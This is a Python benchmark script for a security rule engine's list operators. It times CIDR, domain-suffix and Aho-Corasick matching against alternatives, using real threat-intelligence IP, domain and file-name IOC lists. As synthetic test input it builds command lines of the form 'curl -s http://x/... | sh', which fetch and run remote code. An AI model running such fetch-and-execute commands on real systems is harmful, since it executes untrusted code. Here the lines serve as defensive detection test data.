"""Benchmark: the indexes behind the rule language's list operators, on the real threat-intelligence lists in
../shared/data/intel, against the alternatives the design considered, in one run.

- in_cidr: stockade's index (one set of network numbers per prefix length, Python's ipaddress to parse the
  value) against pytricia's radix tree (a C extension), on ipsum's ~120,000 addresses plus a set of networks,
  with a lookup mix of listed and unlisted addresses. The anchor ratio is pytricia / stockade (> 1: stockade
  faster).
- domain_in: the suffix-set walk against a linear scan of endswith(), on the nocoin and LOKI domain lists.
- contains_any: one Aho-Corasick automaton (pyahocorasick) against ``any(w in s ...)``, on LOKI's
  file-name IOCs over command lines.

Both sides of each pair are checked to give the same answers before they are timed.

Usage: python bench/lists.py  (pip install -e ".[bench]" for pytricia)
"""

from __future__ import annotations

import ipaddress
import random
import re
import tarfile
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from stockade.rules.lists import cidr_matcher, domain_matcher, load_file, substring_matcher

ROOT = Path(__file__).resolve().parents[1]
INTEL = ROOT.parent / "shared" / "data" / "intel"


def timed(fn: Callable[[Any], bool], values: list[str], rounds: int = 3) -> float:
    """Best of ``rounds``: nanoseconds per lookup."""
    best = float("inf")
    for _ in range(rounds):
        t0 = time.perf_counter()
        for v in values:
            fn(v)
        best = min(best, time.perf_counter() - t0)
    return best / len(values) * 1e9


def main() -> None:
    rng = random.Random(7)
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        for archive in INTEL.glob("*.tar.gz"):
            with tarfile.open(archive) as tf:
                tf.extractall(root, filter="data")
        ipsum = load_file(root / "stamparm+ipsum" / "ipsum.txt", "cidr")
        tor = load_file(root / "SecOps-Institute+Tor-IP-Addresses" / "tor-nodes.lst", "cidr")
        nets = [f"{a}.{b}.0.0/16" for a, b in ((10, 0), (172, 16), (192, 168), (100, 64))] + ["2001:db8::/32"]
        entries = [*ipsum.entries, *tor.entries, *nets]
        listed = rng.sample(entries[: len(ipsum.entries)], 20_000)
        unlisted = [str(ipaddress.IPv4Address(rng.getrandbits(32))) for _ in range(20_000)]
        values = listed + unlisted
        rng.shuffle(values)

        import pytricia

        t4, t6 = pytricia.PyTricia(32), pytricia.PyTricia(128)
        for e in entries:
            net = ipaddress.ip_network(e, strict=False)
            (t4 if net.version == 4 else t6)[str(net)] = True

        def tricia(v: Any) -> bool:
            try:
                addr = ipaddress.ip_address(v)
            except ValueError:
                return False
            return str(addr) in (t4 if addr.version == 4 else t6)

        def tricia_raw(v: Any) -> bool:  # pytricia parsing the string itself (IPv4 only here)
            try:
                return v in t4
            except ValueError:
                return False

        t0 = time.perf_counter()
        ours = cidr_matcher(entries)
        build_ours = time.perf_counter() - t0
        assert all(ours(v) == tricia(v) for v in values), "in_cidr disagrees with pytricia"
        a, b, c = timed(ours, values), timed(tricia, values), timed(tricia_raw, values)
        print(f"in_cidr over {len(entries):,} entries ({len(set(values)):,} lookups, half listed): "
              f"stockade {a:.0f} ns, pytricia {b:.0f} ns (with ipaddress parsing), {c:.0f} ns (its own parsing); "
              f"index built in {build_ours * 1000:.0f} ms")
        print(f"  ratio pytricia/stockade: {b / a:.2f}x (parsing alike), {c / a:.2f}x (pytricia's own parsing)")

        nocoin = load_file(root / "hoshsadiq+adblock-nocoin-list" / "hosts.txt", "domain", column=1)
        loki = load_file(root / "Neo23x0+signature-base" / "iocs" / "c2-iocs.txt", "domain")
        domains = [*nocoin.entries, *loki.entries]
        names = [f"x{i}.{rng.choice(domains)}" for i in range(10_000)]
        names += [f"host{i}.example-{i % 97}.com" for i in range(10_000)]
        walk = domain_matcher(domains)
        suffixes = tuple("." + d for d in domains)
        exact = frozenset(domains)

        def scan(v: Any) -> bool:
            n = v.lower().rstrip(".")
            return n in exact or n.endswith(suffixes)

        assert all(walk(v) == scan(v) for v in names), "domain_in disagrees with the scan"
        a, b = timed(walk, names), timed(scan, names)
        print(f"domain_in over {len(domains):,} domains: suffix-set walk {a:.0f} ns, endswith scan {b:.0f} ns "
              f"({b / a:.1f}x)")

        fnames = [re.split(r"[\s;]+", x)[0] for x in load_file(
            root / "Neo23x0+signature-base" / "iocs" / "filename-iocs.txt", "string").entries]
        words = [w for w in fnames if w and len(w) > 3 and not any(ch in w for ch in "\\^$()[]|*+?")][:2000]
        lines = [f"/usr/bin/python3 /opt/app/worker-{i}.py --queue jobs-{i % 13}" for i in range(5_000)]
        lines += [f"sh -c curl -s http://x/{rng.choice(words)} | sh" for _ in range(5_000)]
        aho = substring_matcher(words)

        def naive(v: Any) -> bool:
            return any(w in v for w in words)

        assert all(aho(v) == naive(v) for v in lines), "contains_any disagrees with the loop"
        a, b = timed(aho, lines), timed(naive, lines, rounds=1)
        print(f"contains_any over {len(words):,} strings: Aho-Corasick {a:.0f} ns, any(in) loop {b:.0f} ns "
              f"({b / a:.0f}x)")


if __name__ == "__main__":
    main()
